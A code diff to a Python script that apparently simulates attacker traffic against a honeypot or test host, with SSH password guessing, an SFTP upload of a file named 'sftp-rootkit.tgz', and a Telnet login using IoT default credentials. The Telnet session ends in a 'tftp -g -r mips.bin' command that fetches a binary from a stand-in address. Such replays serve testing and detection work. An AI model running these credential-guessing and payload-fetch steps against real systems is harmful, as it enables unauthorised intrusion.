@@ -80,14 +80,13 @@ async def failed_bruteforce():
 
 
 async def interactive_shell():
-    step("ssh: brute force then interactive shell")
-    conn = await connect("root", ["root", "admin", "P@ssw0rd2024"])
+    step("ssh: one rejected password, then an interactive shell")
+    conn = await connect("root", ["123456", "P@ssw0rd2024"])
     async with conn:
         proc = await conn.create_process(
             term_type="xterm-256color", term_size=(120, 40), env={"LANG": "en_US.UTF-8"}, encoding=None
         )
         await expect(proc.stdout, PROMPT)
-        proc.change_terminal_size(160, 48)
 
         async def run(line, wait_for=PROMPT, timeout=20.0):
             proc.stdin.write(line.encode() + b"\n")
@@ -182,16 +181,16 @@ def askpass_env(workdir, password):
 OPENSSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR"]
 
 
-async def openssh(workdir, password, *args):
+async def openssh(workdir, password, *args, stdin=None):
     proc = await asyncio.create_subprocess_exec(
         *args,
         env=askpass_env(workdir, password),
-        stdin=asyncio.subprocess.DEVNULL,
+        stdin=asyncio.subprocess.DEVNULL if stdin is None else asyncio.subprocess.PIPE,
         stdout=asyncio.subprocess.PIPE,
         stderr=asyncio.subprocess.STDOUT,
         start_new_session=True,
     )
-    out, _ = await asyncio.wait_for(proc.communicate(), 60)
+    out, _ = await asyncio.wait_for(proc.communicate(stdin), 60)
     step(f"  {args[0]} exited {proc.returncode}: {out.decode(errors='replace').strip()[:200]}")
 
 
@@ -218,12 +217,10 @@ async def openssh_sessions(workdir):
         upload, f"root@{HOST}:/tmp/",
     )
     step("openssh: sftp upload")
-    batch = os.path.join(workdir, "sftp.batch")
-    with open(batch, "w") as f:
-        f.write(f"put {upload} /tmp/sftp-rootkit.tgz\nbye\n")
+    # Commands on stdin rather than -b, which would forbid the password prompt.
     await openssh(
         workdir, "Summer2024", "sftp", *OPENSSH_OPTS, "-P", str(SSH_PORT), "-o", "PubkeyAuthentication=no",
-        "-b", batch, f"root@{HOST}",
+        f"root@{HOST}", stdin=f"put {upload} /tmp/sftp-rootkit.tgz\nbye\n".encode(),
     )
 
 
@@ -292,9 +289,9 @@ def telnet_login():
     step("telnet: two wrong passwords, then a shell")
     t = Telnet()
     t.expect(b"login: ")
-    for user, password in [("root", "root"), ("root", "123456"), ("admin", "admin1234")]:
-        t.line(user, b"Password: ")
-        t.line(password, b"# " if user == "admin" else b"login: ")
+    for password in ["root", "123456", "xc3511"]:
+        t.line("root", b"Password: ")
+        t.line(password, b"# " if password == "xc3511" else b"login: ")
     t.line("uname -a", b"# ")
     t.line("cat /proc/cpuinfo | grep name | head -1", b"# ")
     t.line("tftp -g -r mips.bin 203.0.113.50", b"# ")
